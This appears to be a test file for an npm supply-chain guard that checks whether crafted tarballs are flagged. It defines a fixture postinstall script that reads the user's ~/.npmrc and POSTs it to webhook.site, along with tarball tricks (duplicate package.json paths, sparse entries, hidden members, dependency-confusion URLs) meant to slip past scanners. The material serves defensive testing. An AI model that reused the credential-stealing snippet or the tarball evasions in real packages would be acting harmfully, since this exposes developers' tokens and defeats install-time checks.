'use strict'

// The guard judges the bytes and files npm installs. Each test serves a SYNTHETIC tarball for
// the real fixture package sigstore@1.0.0 (packument edited to pin its integrity, without any
// install script) and checks that what npm would run is what the guard reports.

const assert = require('node:assert/strict')
const fs = require('node:fs')
const http = require('node:http')
const path = require('node:path')
const { execFile } = require('node:child_process')
const { promisify } = require('node:util')
const { test } = require('node:test')

const pn = require('..')
const { startRegistry } = require('./registry')
const { project, sri } = require('./helpers')
const { tar, file, gz, header, pad } = require('./tarballs')

const BIN = path.join(__dirname, '..', 'bin', 'prov-native.js')
const run = promisify(execFile)

for (const k of ['CI', 'GITHUB_BASE_REF', 'CI_MERGE_REQUEST_DIFF_BASE_SHA', 'PROV_NATIVE_SCAN_ALL']) delete process.env[k]

const BENIGN = JSON.stringify({ name: 'sigstore', version: '1.0.0', main: 'index.js' })
const EVIL = JSON.stringify({ name: 'sigstore', version: '1.0.0', main: 'index.js', scripts: { postinstall: 'node evil.js' } })
const EVIL_JS = "const s = require('fs').readFileSync(require('os').homedir() + '/.npmrc'); fetch('https://webhook.site/x', { method: 'POST', body: s })\n"
const pj = (c) => file('package/package.json', c)
const evil = file('package/evil.js', EVIL_JS)
const idx = file('package/index.js', 'module.exports = 1\n')

// The bypasses: tarballs npm installs with the evil postinstall.
const BYPASSES = {
  'evil package.json, then a benign package\\package.json': gz(tar(pj(EVIL), evil, idx, file('package\\package.json', BENIGN))),
  'evil package.json, then a benign ./package/package.json': gz(tar(pj(EVIL), evil, idx, file('./package/package.json', BENIGN))),
  'a GNU sparse entry in the archive': gz(tar(pj(EVIL), header({ name: 'package/s.bin', type: 'S', size: 512, magic: 'ustar  \0', raw: { 482: Buffer.from([1]) } }), pad(Buffer.from('x'.repeat(512))), evil, idx)),
  'a valid .tgz followed by zero bytes': Buffer.concat([gz(tar(pj(EVIL), evil, idx)), Buffer.alloc(4096)])
}

async function withTarball (tgz, fn) {
  const reg = await startRegistry({
    overrides: { sigstore: (doc) => { const m = doc.versions['1.0.0']; m.dist.integrity = sri(tgz); delete m.scripts } },
    tarballOverrides: { 'sigstore@1.0.0': tgz }
  })
  try { return await fn(reg) } finally { await reg.close() }
}

for (const [name, tgz] of Object.entries(BYPASSES)) {
  test(`guard fails on what npm would run: ${name}`, async () => {
    await withTarball(tgz, async (reg) => {
      const dir = project(reg, ['sigstore@1.0.0'])
      const r = await pn.guard({ cwd: dir, cache: false })
      const errors = r.findings.filter((f) => f.level === 'error' && f.name === 'sigstore')
      assert.ok(errors.some((f) => f.rule === 'manifestConfusion' && /scripts/.test(f.message + f.evidence.join(' '))), JSON.stringify(r.findings, null, 1))
      assert.ok(errors.some((f) => f.rule === 'suspiciousCode' && /evil\.js/.test(f.message)), JSON.stringify(r.findings, null, 1))
      const cli = await run(process.execPath, [BIN, 'guard', '--no-cache'], { cwd: dir }).catch((e) => e)
      assert.equal(cli.code, 1, cli.stdout + cli.stderr)
    })
  })
}

test('a tarball whose files differ between platforms is an error (package\\package.json)', async () => {
  // On Windows `\` separates: the benign package.json would win there, the evil one here.
  await withTarball(BYPASSES['evil package.json, then a benign package\\package.json'], async (reg) => {
    const r = await pn.guard({ cwd: project(reg, ['sigstore@1.0.0']), cache: false })
    const f = r.findings.find((x) => /differs between platforms/.test(x.message))
    assert.ok(f && f.level === 'error', JSON.stringify(r.findings, null, 1))
    assert.ok(f.evidence.some((e) => /^package\.json: platform-dependent-path/.test(e)), f.evidence.join('\n'))
  })
})

test('a tarball npm extracts but the reader cannot pin down is an error, whatever the packument says', async () => {
  // A member hidden after zero padding: npm decodes it or not depending on how it reads the file.
  const tgz = Buffer.concat([gz(tar(pj(BENIGN), idx).subarray(0, 2048)), Buffer.alloc(512), gz(tar(pj(EVIL), evil))])
  await withTarball(tgz, async (reg) => {
    const r = await pn.guard({ cwd: project(reg, ['sigstore@1.0.0']), cache: false })
    const f = r.findings.find((x) => /cannot be read as npm reads it/.test(x.message))
    assert.ok(f && f.level === 'error', JSON.stringify(r.findings, null, 1))
    assert.ok(f.evidence.some((e) => /cannot be reproduced/.test(e)), f.evidence.join('\n'))
  })
})

test('a tarball that is not one: an error even without install scripts in the packument', async () => {
  const junk = Buffer.from('not a tarball '.repeat(100))
  await withTarball(junk, async (reg) => {
    const r = await pn.guard({ cwd: project(reg, ['sigstore@1.0.0']), cache: false })
    const f = r.findings.find((x) => /cannot be read as npm reads it/.test(x.message))
    assert.ok(f && f.level === 'error', JSON.stringify(r.findings, null, 1))
  })
})

// Dependency confusion: the lockfile resolves the package from another host. npm fetches that
// URL; the guard must scan those bytes, not the configured registry's copy.
async function otherHost (tgz) {
  const server = http.createServer((req, res) => {
    if (req.url === '/sigstore/-/sigstore-1.0.0.tgz' && tgz) { res.writeHead(200, { 'content-type': 'application/octet-stream' }); res.end(tgz) } else { res.writeHead(404); res.end() }
  })
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { url: `http://127.0.0.1:${server.address().port}/sigstore/-/sigstore-1.0.0.tgz`, close: () => new Promise((resolve) => server.close(resolve)) }
}

test('dependency confusion: the bytes scanned are the lockfile URL\'s, from the host npm fetches', async () => {
  const tgz = gz(tar(pj(EVIL), evil, idx))
  const reg = await startRegistry()
  const other = await otherHost(tgz)
  try {
    const dir = project(reg, ['sigstore@1.0.0'], (p) => { p['node_modules/sigstore'].resolved = other.url; p['node_modules/sigstore'].integrity = sri(tgz) })
    const r = await pn.guard({ cwd: dir, cache: false })
    const mine = r.findings.filter((f) => f.name === 'sigstore')
    assert.ok(mine.some((f) => f.rule === 'suspiciousCode' && f.level === 'error' && /evil\.js/.test(f.message)), JSON.stringify(mine, null, 1))
    for (const f of mine) for (const e of f.evidence) assert.doesNotMatch(e, /refuses/, 'npm installs these bytes: nothing may claim it refuses them')
  } finally { await other.close(); await reg.close() }
})

test('dependency confusion: when the lockfile URL cannot be read, the bytes npm installs were not seen', async () => {
  const tgz = gz(tar(pj(EVIL), evil, idx))
  const reg = await startRegistry()
  const other = await otherHost(null)
  try {
    const dir = project(reg, ['sigstore@1.0.0'], (p) => { p['node_modules/sigstore'].resolved = other.url; p['node_modules/sigstore'].integrity = sri(tgz) })
    const r = await pn.guard({ cwd: dir, cache: false })
    const f = r.findings.find((x) => x.name === 'sigstore' && /does not match its integrity/.test(x.message))
    assert.ok(f && f.level === 'error', JSON.stringify(r.findings, null, 1))
    assert.ok(f.evidence.some((e) => e.includes(`npm fetches ${other.url}, whose bytes were not seen here`)), f.evidence.join('\n'))
    assert.ok(!f.evidence.some((e) => /refuses/.test(e)), f.evidence.join('\n'))
  } finally { await other.close(); await reg.close() }
})

test('inspectTarball: what npm extracts, with digests, for a real fixture tarball', async () => {
  const { fixture } = require('./helpers')
  const buf = fs.readFileSync(fixture('tarballs/sigstore-1.0.0.tgz'))
  const v = await pn.inspectTarball(buf)
  assert.equal(v.manifest.name, 'sigstore')
  assert.equal(v.root, 'package')
  assert.ok(v.files.length > 10 && v.files.every((f) => /^sha512-/.test(f.integrity) && f.size >= 0))
  assert.deepEqual(v.anomalies.filter((a) => a.severity !== 'info'), [])
  await assert.rejects(pn.inspectTarball(Buffer.from('nope')), (e) => e.code === 'ERR_PROV_INVALID_ARG')
  await assert.rejects(pn.inspectTarball(42), (e) => e.code === 'ERR_PROV_INVALID_ARG')
})
